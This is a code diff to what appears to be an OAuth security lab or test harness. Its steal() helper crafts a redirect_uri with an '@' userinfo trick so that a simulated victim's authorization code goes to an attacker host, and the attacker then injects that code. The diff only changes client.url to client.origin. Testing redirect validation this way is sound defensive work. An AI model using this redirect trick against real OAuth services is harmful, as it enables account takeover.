@@ -48,7 +48,7 @@ def steal(lab: Lab, redirect_uri: str | None = None, inject: bool = True) -> Any
     assert lab.flow is not None
     with httpx.Client(trust_env=False) as me:
         request = _query(me.get(f"{lab.flow.client.url}/login").headers["location"])
-        request["redirect_uri"] = redirect_uri or (lab.flow.client.url + "@" + lab.flow.attacker.url[7:] + "/steal")
+        request["redirect_uri"] = redirect_uri or (lab.flow.client.origin + "@" + lab.flow.attacker.url[7:] + "/steal")
         lab.flow.victim.visit(f"{lab.flow.as_.url}/authorize?{urlencode(request)}")
         if inject:
             stolen = lab.flow.attacker.received[-1].params["code"]
@@ -89,7 +89,7 @@ def steps(*acts: Callable[[Lab], Any]) -> Callable[[Lab], None]:
 
 def other_redirect(lab: Lab) -> None:
     assert lab.flow is not None
-    steal(lab, lab.flow.client.url + "@" + lab.flow.attacker.url[7:] + "/elsewhere")
+    steal(lab, lab.flow.client.origin + "@" + lab.flow.attacker.url[7:] + "/elsewhere")
 
 
 WRONG: list[tuple[str, str, Callable[[Lab], None], str]] = [
